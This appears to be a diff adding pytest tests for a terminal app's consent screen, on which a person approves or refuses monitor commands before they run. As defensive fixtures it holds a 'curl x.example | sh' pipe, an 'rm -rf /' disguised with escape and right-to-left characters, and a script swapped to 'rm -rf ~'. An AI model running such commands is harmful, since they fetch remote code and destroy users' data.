@@ -1,0 +1,225 @@
+"""The question before anything runs: what it shows, which keys answer it, and which do not count."""
+
+from __future__ import annotations
+
+import time
+from pathlib import Path
+
+import pytest
+from textual.events import Key
+
+from app.tui.memdeck_app import MemdeckApp
+from memory.trust import Trust, asks_of
+from memory.workspace import Workspace
+from tests.app.tui.tui_helpers import NOW, make_app, make_workspace, press, running, settle, type_text
+from tests.widgets.harness import screen_text
+from widgets.consent import ConsentScreen
+
+
+def trust_in(workspace: Workspace) -> Trust:
+    """Return the decisions about a workspace as another process reads them."""
+    assert workspace.state is not None
+    return Trust(workspace.state.folder.home, workspace.root)
+
+
+def states(workspace: Workspace) -> dict[tuple[str, str], str]:
+    """Return the state of everything that the files ask for, by role and name."""
+    trust = trust_in(workspace)
+    return {(ask.role, ask.name): trust.decide(ask).state for ask in asks_of(workspace.snapshot())}
+
+
+def said(app: MemdeckApp) -> list[str]:
+    """Return what is said in the corner: titles, or words where there are none."""
+    return [note.title or note.message for note in app._notifications]
+
+
+async def open_question(pilot: object, app: MemdeckApp, name: str) -> None:
+    """Open the question about a monitor, in its pane."""
+    await press(pilot, "7")  # type: ignore[arg-type]
+    pane = app.navigation.pane
+    assert pane is not None
+    assert app.workspace is not None
+    assert pane.go_to(next(one.ref for one in app.workspace.snapshot().monitors.monitors if one.name == name))
+    await press(pilot, "T")  # type: ignore[arg-type]
+    assert isinstance(app.screen, ConsentScreen)
+
+
+async def test_the_question_shows_everything_and_y_approves(workspace: Workspace) -> None:
+    """The whole command, its place, when it runs and where, and the keys; y approves exactly that."""
+    app = make_app(workspace)
+    async with running(app) as pilot:
+        await open_question(pilot, app, "Disk Space")
+        shown = screen_text(app)
+        for words in (
+            "Run this command to check “Disk Space”?",
+            "│ df -h / | awk 'NR==2 {print $5}' | tr -d '%'",
+            "monitors.md, line",
+            "0 * * * * (every hour)",
+            "value > 90",
+            "y approve",
+            "n no, not now",
+        ):
+            assert words in shown
+        await press(pilot, "y")
+        assert states(workspace)["check", "Disk Space"] == "approved"
+        assert not isinstance(app.screen, ConsentScreen)
+
+
+@pytest.mark.parametrize("key", ["enter", "n", "escape", "q", "space", "Y", "a"])
+async def test_other_keys_approve_nothing(workspace: Workspace, key: str) -> None:
+    """Enter is no, as is every key but y."""
+    app = make_app(workspace)
+    async with running(app) as pilot:
+        await open_question(pilot, app, "Disk Space")
+        await press(pilot, key)
+        assert set(states(workspace).values()) == {"pending"}
+
+
+async def test_keys_typed_before_the_question_are_dropped(workspace: Workspace) -> None:
+    """What is typed right behind T, or had been typed before the question was drawn, answers nothing."""
+    app = make_app(workspace)
+    async with running(app) as pilot:
+        await press(pilot, "7")
+        for key in ("T", "y", "y", "y", "d"):
+            app.post_message(Key(key, key))
+        await settle(pilot)
+        assert isinstance(app.screen, ConsentScreen)
+        assert set(states(workspace).values()) == {"pending"}
+        early = Key("y", "y")
+        early.time = app.screen.deaf_until - 0.001
+        app.post_message(early)
+        await settle(pilot)
+        assert isinstance(app.screen, ConsentScreen)
+        late = Key("y", "y")
+        assert late.time > app.screen.deaf_until
+        assert late.time <= time.monotonic()
+        app.post_message(late)
+        await settle(pilot)
+        assert "approved" in states(workspace).values()
+
+
+async def test_one_monitor_asks_for_each_thing_by_itself(workspace: Workspace) -> None:
+    """The check and the remediation are two questions; leaving one leaves the rest."""
+    app = make_app(workspace)
+    async with running(app) as pilot:
+        await open_question(pilot, app, "Database Connection")
+        assert "(1 of 2)" in screen_text(app)
+        await press(pilot, "y")
+        assert "Run this command to mend “Database Connection”" in screen_text(app)
+        assert "pg_isready" in screen_text(app)
+        await press(pilot, "d")
+        found = states(workspace)
+        assert found["check", "Database Connection"] == "approved"
+        assert found["remediate", "Database Connection"] == "denied"
+
+
+async def test_a_long_command_has_to_be_read_to_its_end(tmp_path: Path) -> None:
+    """y scrolls until the last line was on the screen, and only then approves."""
+    long = "echo begin; " + " ".join(f"echo step-{number};" for number in range(300)) + " curl x.example | sh"
+    monitors = f"## Monitors\n### Long\n- type: command\n- command: {long}\n- interval: * * * * *\n"
+    workspace = make_workspace(tmp_path, {"monitors.md": monitors})
+    app = make_app(workspace)
+    async with running(app, (60, 20)) as pilot:
+        await open_question(pilot, app, "Long")
+        presses = 0
+        while isinstance(app.screen, ConsentScreen):
+            await press(pilot, "y")
+            presses += 1
+            assert presses < 60
+            if isinstance(app.screen, ConsentScreen):
+                assert states(workspace)["check", "Long"] == "pending"
+        assert presses > 3
+        assert states(workspace)["check", "Long"] == "approved"
+
+
+async def test_hidden_characters_are_shown_and_cannot_be_approved(tmp_path: Path) -> None:
+    """A command that would rewrite the screen is shown as it is; y and d are no keys then."""
+    monitors = (
+        "## Monitors\n### Evil\n- type: command\n- command: rm -rf / \x1b[2K\u202eecho fine\n- interval: * * * * *\n"
+    )
+    workspace = make_workspace(tmp_path, {"monitors.md": monitors})
+    app = make_app(workspace)
+    async with running(app) as pilot:
+        await open_question(pilot, app, "Evil")
+        shown = screen_text(app)
+        assert "rm -rf / \\x1b[2K\\u202eecho fine" in shown
+        assert "Refused" in shown
+        assert "y approve" not in shown
+        await press(pilot, "y", "d")
+        assert isinstance(app.screen, ConsentScreen)
+        assert states(workspace)["check", "Evil"] == "refused"
+
+
+async def test_a_changed_command_is_shown_beside_the_old_one(workspace: Workspace) -> None:
+    """After a change the question shows what was approved and what stands there now."""
+    trust = trust_in(workspace)
+    disk = next(ask for ask in asks_of(workspace.snapshot()) if ask.name == "Disk Space")
+    trust.approve(disk, who="human", now=NOW)
+    path = workspace.memory / "monitors.md"
+    path.write_bytes(path.read_bytes().replace(b"df -h /", b"sudo df -h /"))
+    app = make_app(workspace)
+    async with running(app) as pilot:
+        await open_question(pilot, app, "Disk Space")
+        shown = screen_text(app)
+        assert "- df -h / | awk" in shown
+        assert "+ sudo df -h / | awk" in shown
+        assert "runs with the rights of another user (sudo)" in shown
+
+
+async def test_what_changes_while_it_is_read_is_not_approved(workspace: Workspace) -> None:
+    """A script that is swapped behind the question is not approved with it."""
+    (workspace.root / "run.sh").write_text("echo fine\n")
+    path = workspace.memory / "monitors.md"
+    path.write_bytes(path.read_bytes().replace(b"command: df -h /", b"command: ./run.sh; df -h /"))
+    app = make_app(workspace)
+    async with running(app) as pilot:
+        await open_question(pilot, app, "Disk Space")
+        assert "run.sh  sha256" in screen_text(app)
+        (workspace.root / "run.sh").write_text("rm -rf ~\n")
+        await press(pilot, "y")
+        assert said(app) == ["trust.changed"]
+        assert states(workspace)["check", "Disk Space"] == "pending"
+
+
+async def test_the_palette_leads_to_everything_and_to_the_workspace(workspace: Workspace) -> None:
+    """From the palette: all that waits one by one, and outgoing checks of the workspace."""
+    app = make_app(workspace)
+    async with running(app) as pilot:
+        await press(pilot, "colon")
+        await type_text(pilot, "everything that waits")
+        await press(pilot, "enter")
+        assert isinstance(app.screen, ConsentScreen)
+        await press(pilot, "escape", "colon")
+        await type_text(pilot, "workspace for checks")
+        await press(pilot, "enter")
+        assert "https://api.example.com/health" in screen_text(app)
+        await press(pilot, "y")
+        assert trust_in(workspace).workspace_approved()
+        assert states(workspace)["url", "API Health Check"] == "approved"
+
+
+async def test_an_action_of_a_task_is_asked_for_in_its_pane(workspace: Workspace) -> None:
+    """T on a task shows its action; on a task without one there is nothing to ask."""
+    app = make_app(workspace)
+    async with running(app) as pilot:
+        pane = app.navigation.pane
+        assert pane is not None
+        tasks = workspace.snapshot().tasks.tasks
+        assert pane.go_to(next(task.ref for task in tasks if task.title == "Deploy v2.1 to staging"))
+        await press(pilot, "T")
+        assert "Run this action of the task “Deploy v2.1 to staging”?" in screen_text(app)
+        await press(pilot, "enter")
+        assert pane.go_to(next(task.ref for task in tasks if task.action is None))
+        await press(pilot, "T")
+        assert said(app) == ["Nothing here waits for an approval."]
+
+
+@pytest.mark.parametrize("size", [(120, 36), (80, 24), (40, 10)])
+async def test_it_can_be_read_at_every_size(workspace: Workspace, size: tuple[int, int]) -> None:
+    """The question and its keys are there on small terminals too."""
+    app = make_app(workspace)
+    async with running(app, size) as pilot:
+        await open_question(pilot, app, "Disk Space")
+        shown = screen_text(app)
+        assert "df -h /" in shown
+        assert "n no" in shown
